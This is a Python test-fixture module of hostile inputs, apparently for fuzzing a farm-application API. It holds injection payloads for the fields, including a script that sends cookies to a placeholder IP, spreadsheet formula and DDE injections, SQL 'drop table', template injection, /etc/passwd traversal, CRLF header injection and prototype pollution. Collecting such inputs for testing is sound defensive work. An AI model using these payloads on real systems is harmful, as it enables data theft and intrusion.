"""Hostile text: what somebody could write where a name, a reason or a search is asked for."""

TEXTS = {
    "formula": '=HYPERLINK("http://192.0.2.1/?x="&A1;"ดูรายละเอียด")',
    "formula with a sign": "+1+cmd|'/c calc'!A1",
    "formula behind a tab": "\t=1+1",
    "script": "<script>document.location='http://192.0.2.1/'+document.cookie</script>",
    "handler of an image": '"><img src=x onerror=alert(1)>',
    "template": "{{ config }}{% for x in ().__class__.__bases__ %}x{% endfor %}",
    "typesetting": '#read("/etc/passwd") #import "x.typ" \\ $ a_b^c $ @cite *b* _i_',
    "SQL": "สวน' or 1=1; drop table application; --",
    "search syntax": 'a" OR b* NEAR(c, 2) AND NOT {d} : - ^',
    "format": "%s%n%(name)s{0.__class__.__init__.__globals__}",
    "read from the right": "สวน\u202egpj.exe",
    "joined marks": "ก\u200d\u200b\ufeff" * 20,
    "marks upon marks": "ก" + "\u0e49" * 150,
    "letters outside the plane": "🌿𝕏\U000e0041" * 30,
    "private letters": "\ue000\ufffe\uffff",
    "NUL": "สวน\x00สมมุติ",
    "control signs": "\x01\x08\x1b[2J\x1b]0;x\x07\x7f\x9b31m",
    "line breaks": "สวน\r\nBcc: everyone@example.com\r\n\r\nข้อความ",
    "line breaks of Unicode": "สวน\u2028สมมุติ\u2029\x85",
    "header of a mail": "a@example.com\r\nBcc: b@example.com",
    "two addresses": "a@example.com, b@example.com",
    "address with a name": '"a" <a@example.com>',
    "path": "../../../../etc/passwd",
    "blanks": "\u00a0\u3000\u2003 ",
    "nothing": "",
    "1 MB": "ก" * 349_000,
    "300,000 signs in a row": "a" * 300_000,
    "number": "1e309",
    "true": "true",
}
"""By what is hostile about each."""

FIELDS = (
    "applicantType applicantName applicantId applicantPhone applicantEmail farmName farmAddress"
    " farmProvince farmDistrict farmSubdistrict farmPostalCode farmAreaRai farmLocation cropType"
    " locationType"
).split()
"""The fields of an application."""

BODIES = {
    "10,000 brackets": b"[" * 10_000,
    "10,000 lists": b'{"farmName":' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    "10,000 objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "doubled keys": b'{"farmName": "a", "farmName": "b", "farmName": 3}',
    "100,000 keys": b"{%s}" % b",".join(b'"k%d":0' % number for number in range(70_000)),
    "NaN": b'{"farmAreaRai": NaN}',
    "infinity": b'{"farmAreaRai": -Infinity}',
    "1e400": b'{"farmAreaRai": 1e400}',
    "a number of 100,000 digits": b'{"farmAreaRai": %s}' % (b"9" * 100_000),
    "a fraction of 100,000 digits": b'{"farmAreaRai": 0.%s}' % (b"1" * 100_000),
    "number as text": b'{"farmAreaRai": "12.5"}',
    "text as number": b'{"farmName": 12}',
    "half a surrogate": b'{"farmName": "\\ud800"}',
    "half a surrogate as a key": b'{"\\udfff": 1}',
    "a surrogate in UTF-8": b'{"farmName": "\xed\xa0\x80"}',
    "no UTF-8": b'{"farmName": "\xff\xfe\x80"}',
    "Thai of Windows": b'{"farmName": "\xca\xc7\xb9"}',
    "UTF-16": '{"farmName": "สวน"}'.encode("utf-16"),
    "a byte order mark": b'\xef\xbb\xbf{"farmName": "a"}',
    "an escaped NUL": b'{"farmName": "a\\u0000b"}',
    "a key with a colour of the terminal": b'{"\\u001b[31m": 1}',
    "a class of Python": b'{"__class__": {"__init__": {"__globals__": 1}}}',
    "a prototype": b'{"__proto__": {"isAdmin": true}}',
    "no JSON": b"farmName=a",
    "a word": b"null",
    "a list": b"[]",
    "nothing": b"",
    "half of it": b'{"farmName": "a',
    "a comment": b'{"farmName": "a" /* b */}',
    "over a megabyte": b'{"farmName": "%s"}' % (b"a" * 1_100_000),
}
"""Bodies of a request that changes an application."""

CONTENT_TYPES = (
    "",
    "text/plain",
    "application/xml",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/form-data; boundary=" + "x" * 5_000,
    "multipart/form-data; boundary=\x01\x02",
    "application/json; charset=utf-16",
    "application/json, application/json",
    "application/" + "j" * 5_000,
    ";;;=;",
)

KEYS = ("", " ", "ก".encode().decode("latin-1"), "a" * 256, "a" * 10_000, "a\tb", "'; drop table")
"""Idempotency keys that are none."""

QUERIES = (
    "q=%00",
    "q=%ED%A0%80",
    "q=%FF%FE",
    "q=%E0%B8%81" * 1_000,
    "q=" + "a" * 20_000,
    "q=%22%20OR%20*",
    "q=%25_%25",
    "limit=99999999999999999999",
    "limit=-1",
    "limit=NaN",
    "cursor=" + "A" * 5_000,
    "cursor=%00",
    "cursor=eyJhIjogMX0",
    "&" * 5_000,
    "q[]=1&q[]=2",
    "status=%0d%0aSet-Cookie:a=b",
    "=&==&%=&%zz=%zz",
)
"""Questions of a list."""
